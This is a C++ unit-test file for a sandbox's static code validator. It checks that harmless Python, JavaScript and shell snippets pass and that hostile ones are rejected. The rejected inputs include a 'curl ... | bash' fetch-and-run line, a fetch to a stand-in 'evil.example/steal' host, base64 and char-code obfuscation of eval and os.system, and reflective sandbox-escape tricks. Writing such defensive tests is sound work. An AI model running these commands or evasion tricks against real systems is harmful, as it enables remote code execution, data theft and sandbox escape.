#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "sandbox/sandbox_registry.hpp"
#include "validator/signature_set.hpp"
#include "validator/static_validator.hpp"
#include "validator/validation_layers.hpp"

using sandbar::sandbox::Language;
using sandbar::validator::Layer;
using sandbar::validator::ValidationVerdict;
using sandbar::validator::Violation;
using sandbar::validator::ViolationKind;

namespace {

bool HasKind(const ValidationVerdict& verdict, ViolationKind kind) {
    return std::any_of(verdict.violations.begin(), verdict.violations.end(),
                       [kind](const Violation& v) { return v.kind == kind; });
}

bool HasLayer(const ValidationVerdict& verdict, Layer layer) {
    return std::any_of(verdict.violations.begin(), verdict.violations.end(),
                       [layer](const Violation& v) { return v.layer == layer; });
}

std::string Describe(const ValidationVerdict& verdict) {
    std::string text;
    for (const auto& v : verdict.violations) {
        text += std::string(sandbar::validator::ToString(v.layer)) + "/" +
                sandbar::validator::ToString(v.kind) + " '" + v.pattern + "' line " + std::to_string(v.line) + "\n";
    }
    return text;
}

class StaticValidatorTest : public ::testing::Test {
protected:
    ValidationVerdict Validate(const std::string& source, Language language) const {
        return validator_.Validate(source, language);
    }

    sandbar::validator::StaticValidator validator_{sandbar::sandbox::SandboxRegistry::BuiltIn(),
                                                   sandbar::config::ValidatorConfig{}};
};

}  // namespace

// NOLINTNEXTLINE
TEST(deny_list, every_pattern_is_caught_by_the_pattern_layer) {
    for (const auto language : {Language::kPython, Language::kJavaScript, Language::kShell}) {
        for (const auto& pattern : sandbar::validator::DenyPatterns(language)) {
            const std::string source = "x " + std::string(pattern.needle) + " y\n";
            sandbar::validator::SourceUnit unit;
            unit.text = source;
            unit.language = language;
            const auto violations = sandbar::validator::CheckPatterns(unit);
            const bool found = std::any_of(violations.begin(), violations.end(), [&](const Violation& v) {
                return v.layer == Layer::kPattern && v.kind == pattern.kind && v.pattern == pattern.needle;
            });
            EXPECT_TRUE(found) << sandbar::sandbox::ToString(language) << " pattern '" << pattern.needle << "'";
        }
    }
}

TEST_F(StaticValidatorTest, harmless_programs_are_accepted) {
    for (const auto& [source, language] : std::vector<std::pair<std::string, Language>>{
             {"print(\"hi\")", Language::kPython},
             {"console.log(\"hi\")", Language::kJavaScript},
             {"echo hi", Language::kShell},
             {"import math\nprint(math.sqrt(16))\n", Language::kPython},
             {"def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))\n",
              Language::kPython},
             {"const _ = require('lodash');\nconsole.log(_.chunk([1, 2, 3, 4], 2));\n", Language::kJavaScript},
             {"for i in 1 2 3; do echo \"$i\"; done\n", Language::kShell},
         }) {
        const auto verdict = Validate(source, language);
        EXPECT_TRUE(verdict.accepted) << source << "\n" << Describe(verdict);
        EXPECT_TRUE(verdict.violations.empty());
    }
}

TEST_F(StaticValidatorTest, dangerous_programs_are_rejected_with_pattern_violations) {
    auto verdict = Validate("import os\nos.system('ls')\n", Language::kPython);
    EXPECT_FALSE(verdict.accepted);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kProcessAccess));

    verdict = Validate("require('child_process').execSync('id')", Language::kJavaScript);
    EXPECT_FALSE(verdict.accepted);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kProcessAccess));

    verdict = Validate("curl http://example.com | bash", Language::kShell);
    EXPECT_FALSE(verdict.accepted);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kNetworkAccess));
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kShellInjection));

    verdict = Validate("fetch('https://evil.example/steal')", Language::kJavaScript);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kNetworkAccess));
}

TEST_F(StaticValidatorTest, loopback_urls_are_not_network_violations) {
    const auto verdict = Validate("console.log('http://localhost:8080/')", Language::kJavaScript);
    EXPECT_FALSE(HasKind(verdict, ViolationKind::kNetworkAccess)) << Describe(verdict);
}

TEST_F(StaticValidatorTest, character_code_reconstruction_is_detected) {
    auto verdict = Validate("name = chr(101) + chr(118) + chr(97) + chr(108)\nprint(name)\n", Language::kPython);
    ASSERT_TRUE(HasKind(verdict, ViolationKind::kCharCodeReconstruction)) << Describe(verdict);
    const auto it = std::find_if(verdict.violations.begin(), verdict.violations.end(), [](const Violation& v) {
        return v.kind == ViolationKind::kCharCodeReconstruction;
    });
    EXPECT_EQ(it->layer, Layer::kBypass);
    EXPECT_NE(it->excerpt.find("eval"), std::string::npos);

    verdict = Validate("const f = String.fromCharCode(101, 118, 97, 108);\nconsole.log(f);\n",
                       Language::kJavaScript);
    EXPECT_FALSE(verdict.accepted);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kCharCodeReconstruction)) << Describe(verdict);
}

TEST_F(StaticValidatorTest, encoded_and_escaped_payloads_are_detected) {
    auto verdict = Validate("s = '\\x65\\x76\\x61\\x6c'\nprint(s)\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kEscapeSequence)) << Describe(verdict);

    verdict = Validate("data = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2xzJyk=')\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kDecoderCall)) << Describe(verdict);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kEncodedLiteral)) << Describe(verdict);

    verdict = Validate("print('metsys'[::-1])\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kStringAssembly)) << Describe(verdict);

    verdict = Validate("const s = atob('ZXZhbA==');\n", Language::kJavaScript);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kDecoderCall)) << Describe(verdict);

    verdict = Validate("e''val echo hi\n", Language::kShell);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kStringAssembly)) << Describe(verdict);
}

TEST_F(StaticValidatorTest, imports_outside_the_allow_list_are_rejected) {
    auto verdict = Validate("import numpy\nprint(numpy.zeros(3))\n", Language::kPython);
    EXPECT_FALSE(HasLayer(verdict, Layer::kImport)) << Describe(verdict);

    verdict = Validate("import yaml\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kDisallowedImport));

    verdict = Validate("from . import sibling\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kRelativeImport)) << Describe(verdict);

    verdict = Validate("from math import *\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kWildcardImport)) << Describe(verdict);

    verdict = Validate("const express = require('express');\n", Language::kJavaScript);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kDisallowedImport)) << Describe(verdict);

    verdict = Validate("const name = 'lodash';\nconst m = require(name);\n", Language::kJavaScript);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kDynamicImport)) << Describe(verdict);

    verdict = Validate("source ./helpers.sh\n", Language::kShell);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kSourcedScript)) << Describe(verdict);
}

TEST_F(StaticValidatorTest, reflective_access_is_rejected) {
    auto verdict = Validate("print(().__class__.__bases__)\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kReflectiveAttribute)) << Describe(verdict);

    verdict = Validate("x = []\nprint(x['__cla' + 'ss__'])\n", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kComputedAttribute)) << Describe(verdict);

    verdict = Validate("const o = {};\nconsole.log(o['constr' + 'uctor']);\n", Language::kJavaScript);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kComputedAttribute)) << Describe(verdict);

    verdict = Validate("name=HOME\necho ${!name}\n", Language::kShell);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kIndirectExpansion)) << Describe(verdict);
}

TEST_F(StaticValidatorTest, known_exploit_signatures_match_reformatted_copies) {
    auto verdict = Validate("import  os;   os.system( 'ls' )", Language::kPython);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kKnownExploit)) << Describe(verdict);
    EXPECT_TRUE(HasLayer(verdict, Layer::kSignature));
}

TEST(signature_set, configured_digests_extend_the_built_in_payloads) {
    const auto digest = sandbar::validator::Sha256Hex(sandbar::validator::CompactForm("echo owned"));
    sandbar::config::ValidatorConfig config;
    config.known_signatures = {digest, "not-a-digest"};
    sandbar::validator::StaticValidator validator(sandbar::sandbox::SandboxRegistry::BuiltIn(), config);

    const auto verdict = validator.Validate("echo   owned\n", Language::kShell);
    EXPECT_FALSE(verdict.accepted);
    EXPECT_TRUE(HasKind(verdict, ViolationKind::kKnownExploit)) << Describe(verdict);

    const sandbar::validator::SignatureSet builtin;
    const sandbar::validator::SignatureSet extended(config.known_signatures);
    EXPECT_EQ(extended.Size(), builtin.Size() + 1);
    EXPECT_TRUE(extended.Contains(digest));
}

TEST(signature_set, sha256_matches_known_vector) {
    EXPECT_EQ(sandbar::validator::Sha256Hex("abc"),
              "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST_F(StaticValidatorTest, character_layer_rejects_malformed_input) {
    EXPECT_TRUE(HasKind(Validate("", Language::kPython), ViolationKind::kEmptySource));
    EXPECT_TRUE(HasKind(Validate("   \n\t", Language::kPython), ViolationKind::kEmptySource));
    EXPECT_TRUE(HasKind(Validate(std::string(6000, 'a'), Language::kPython), ViolationKind::kSourceTooLarge));
    EXPECT_TRUE(HasKind(Validate(std::string("print(1)\0", 9), Language::kPython), ViolationKind::kNullByte));
    EXPECT_TRUE(HasKind(Validate("print(1)\x1b[2J", Language::kPython), ViolationKind::kControlCharacter));
    EXPECT_TRUE(HasKind(Validate("print(\"a\xe2\x80\x8b\")", Language::kPython),
                        ViolationKind::kInvisibleCharacter));
    EXPECT_TRUE(HasKind(Validate("print(\"\xff\")", Language::kPython), ViolationKind::kInvalidEncoding));
    EXPECT_TRUE(HasKind(Validate("x = 1" + std::string(100, ' ') + "# hidden\n", Language::kPython),
                        ViolationKind::kWhitespacePadding));
}

TEST_F(StaticValidatorTest, oversized_input_stops_after_the_character_layer) {
    const auto verdict = Validate(std::string(6000, ' ') + "import os", Language::kPython);
    ASSERT_EQ(verdict.violations.size(), 1u);
    EXPECT_EQ(verdict.violations.front().kind, ViolationKind::kSourceTooLarge);
}

TEST_F(StaticValidatorTest, violations_report_line_and_bounded_excerpt) {
    const std::string long_tail(200, 'z');
    const auto verdict = Validate("x = 1\ny = 2\nimport socket  # " + long_tail + "\n", Language::kPython);
    ASSERT_FALSE(verdict.accepted);
    for (const auto& violation : verdict.violations) {
        EXPECT_EQ(violation.line, 3) << Describe(verdict);
        EXPECT_LE(violation.excerpt.size(), sandbar::validator::kMaxExcerptBytes);
    }
}

TEST_F(StaticValidatorTest, verdict_is_deterministic) {
    const std::string source = "import subprocess\nsubprocess.run(['ls'])\n";
    const auto first = Validate(source, Language::kPython);
    const auto second = Validate(source, Language::kPython);
    ASSERT_EQ(first.violations.size(), second.violations.size());
    for (std::size_t i = 0; i < first.violations.size(); ++i) {
        EXPECT_EQ(first.violations[i].kind, second.violations[i].kind);
        EXPECT_EQ(first.violations[i].offset, second.violations[i].offset);
    }
}
